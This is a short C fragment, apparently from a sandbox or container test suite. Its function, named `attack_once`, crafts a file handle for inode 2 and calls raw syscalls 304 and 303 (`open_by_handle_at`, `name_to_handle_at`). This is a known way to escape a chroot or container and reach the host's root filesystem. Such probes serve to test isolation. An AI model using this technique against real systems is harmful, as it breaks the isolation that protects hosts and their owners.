// Opens files by their inode numbers.
static void attack_once() {
    struct { unsigned bytes; int type; uint32_t inode[4]; } handle = {8, 1, {2, 0}};
    long root = sys(SYS_open, "/", READ, 0);
    TRY("by handle", sys(304, root < 0 ? 0 : root, &handle, 0));
    TRY("to handle", sys(303, AT_CWD, "/usr", &handle, &root, 0));
}
